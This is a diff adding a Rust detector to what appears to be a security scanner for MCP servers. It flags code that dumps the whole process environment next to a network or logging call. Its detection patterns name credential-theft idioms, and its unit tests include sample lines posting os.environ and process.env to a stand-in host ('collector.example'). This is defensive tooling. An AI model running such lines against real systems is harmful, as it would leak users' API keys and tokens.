@@ -0,0 +1,176 @@
+//! Process environment exfiltration detection
+//!
+//! The environment of an MCP server process usually holds every API key the
+//! user configured for it. Credential-stealing servers serialize the whole
+//! thing (`json.dumps(os.environ)`, `JSON.stringify(process.env)`,
+//! `printenv`) and post it somewhere or write it to a log.
+//!
+//! Enumerating the environment on its own is common and harmless (copying it
+//! for a subprocess, filtering by prefix), so a finding needs a network or
+//! logging sink on the same line or within [`SINK_WINDOW_LINES`] after it.
+
+use anyhow::Result;
+use once_cell::sync::Lazy;
+use regex::Regex;
+use std::collections::HashMap;
+
+use crate::models::vulnerability::{Severity, Vulnerability, VulnerabilityType};
+
+/// How many lines after an environment dump a sink is still associated with it
+const SINK_WINDOW_LINES: usize = 5;
+
+/// Serializing or enumerating the whole environment
+static ENV_DUMP: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(concat!(
+        // Python
+        r#"(?:\b(?:json\.dumps|dict|str|repr|pprint|print)\s*\(\s*os\.environ\s*[),]"#,
+        r#"|\bos\.environ\.(?:items|keys|values)\s*\(\s*\)"#,
+        r#"|\bos\.environ\s*\)"#,
+        // JavaScript/TypeScript
+        r#"|\bJSON\.stringify\s*\(\s*process\.env\s*[),]"#,
+        r#"|\bObject\.(?:entries|keys|values)\s*\(\s*process\.env\s*\)"#,
+        r#"|\b(?:util\.)?inspect\s*\(\s*process\.env\b"#,
+        r#"|\bprocess\.env\s*\)"#,
+        // Shell
+        r#"|\bprintenv\b"#,
+        r#"|\b(?:subprocess\.\w+|check_output|execSync|spawnSync|exec|spawn)\s*\(\s*\[?\s*["'](?:env|set)["']"#,
+        r#")"#,
+    ))
+    .unwrap()
+});
+
+/// Sending data off the machine
+static NETWORK_SINK: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(
+        r#"\b(?:requests|httpx|session|client)\.(?:post|put|get|request)\s*\(|\burllib\.request\.(?:urlopen|Request)\s*\(|\bfetch\s*\(|\baxios(?:\.\w+)?\s*\(|\bhttps?\.request\s*\(|\.send(?:all|to)?\s*\(|\bcurl\b"#,
+    )
+    .unwrap()
+});
+
+/// Writing data to logs or stdout
+static LOG_SINK: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(
+        r#"\b(?:print|pprint)\s*\(|\bconsole\.(?:log|info|warn|error|debug)\s*\(|\b(?:logger|logging|log)\.(?:debug|info|warning|warn|error|critical|exception)\s*\("#,
+    )
+    .unwrap()
+});
+
+pub fn detect(content: &str, file_path: &str) -> Result<Vec<Vulnerability>> {
+    let lines: Vec<&str> = content.lines().collect();
+    let mut vulnerabilities = Vec::new();
+    let mut id_counter = 1;
+
+    for (line_num, line) in lines.iter().enumerate() {
+        if !ENV_DUMP.is_match(line) {
+            continue;
+        }
+
+        let window = &lines[line_num..lines.len().min(line_num + 1 + SINK_WINDOW_LINES)];
+        let sent = window.iter().any(|l| NETWORK_SINK.is_match(l));
+        if !sent && !window.iter().any(|l| LOG_SINK.is_match(l)) {
+            continue;
+        }
+
+        // Same-line flows are near certain; nearby sinks are a strong hint
+        let confidence = if NETWORK_SINK.is_match(line) || LOG_SINK.is_match(line) {
+            0.9
+        } else {
+            0.7
+        };
+
+        let (rule, title, severity, cwe) = if sent {
+            (
+                "sent-over-network",
+                "Process Environment Sent Over the Network",
+                Severity::Critical,
+                "CWE-200",
+            )
+        } else {
+            (
+                "written-to-logs",
+                "Process Environment Written to Logs",
+                Severity::High,
+                "CWE-532",
+            )
+        };
+
+        for m in ENV_DUMP.find_iter(line) {
+            let mut evidence = HashMap::new();
+            evidence.insert("cwe".to_string(), serde_json::json!(cwe));
+
+            vulnerabilities.push(
+                Vulnerability::new(
+                    format!("ENV-{:03}", id_counter),
+                    VulnerabilityType::DataExfiltration,
+                    severity,
+                    title,
+                    "The entire process environment is serialized and passed to a network or \
+                     logging call; it typically contains every API key configured for the server"
+                        .to_string(),
+                )
+                .with_rule_id(rule)
+                .with_location(super::match_location(file_path, line_num, line, m.range()))
+                .with_impact(
+                    "All credentials in the environment (cloud keys, LLM API keys, tokens) \
+                     are disclosed to whoever receives the request or reads the logs",
+                )
+                .with_remediation(
+                    "Read only the specific variables the server needs, and never send or log \
+                     os.environ / process.env as a whole",
+                )
+                .with_code_snippet(line.to_string())
+                .with_confidence(confidence)
+                .with_evidence(evidence),
+            );
+            id_counter += 1;
+        }
+    }
+
+    Ok(vulnerabilities)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_detect_environment_exfiltration() {
+        let content = r#"
+requests.post("https://collector.example/c", json=dict(os.environ))
+await fetch(url, { method: "POST", body: JSON.stringify(process.env) });
+"#;
+        let vulns = detect(content, "server.py").unwrap();
+        assert_eq!(vulns.len(), 2);
+        assert!(vulns.iter().all(|v| v.severity == Severity::Critical));
+        assert_eq!(vulns[0].rule_id.as_deref(), Some("sent-over-network"));
+    }
+
+    #[test]
+    fn test_detect_dump_with_nearby_sink() {
+        let content = r#"
+payload = json.dumps(os.environ)
+headers = {"Content-Type": "application/json"}
+urllib.request.urlopen(urllib.request.Request(URL, payload.encode()))
+console.log(Object.entries(process.env));
+"#;
+        let vulns = detect(content, "server.py").unwrap();
+        assert_eq!(vulns.len(), 2);
+        assert_eq!(vulns[0].confidence, 0.7);
+        assert_eq!(vulns[1].rule_id.as_deref(), Some("written-to-logs"));
+    }
+
+    #[test]
+    fn test_environment_copies_not_flagged() {
+        let content = r#"
+env = os.environ.copy()
+env.update({"PATH": bin_dir})
+subprocess.run(cmd, env={**os.environ, "DEBUG": "1"})
+logger.info("Starting with %s", config["env"])
+const child = spawn(cmd, { env: { ...process.env, NODE_ENV: "test" } });
+for key, value in os.environ.items():
+    if key.startswith("MCP_"):
+        config[key] = value
+"#;
+        assert!(detect(content, "server.py").unwrap().is_empty());
+    }
+}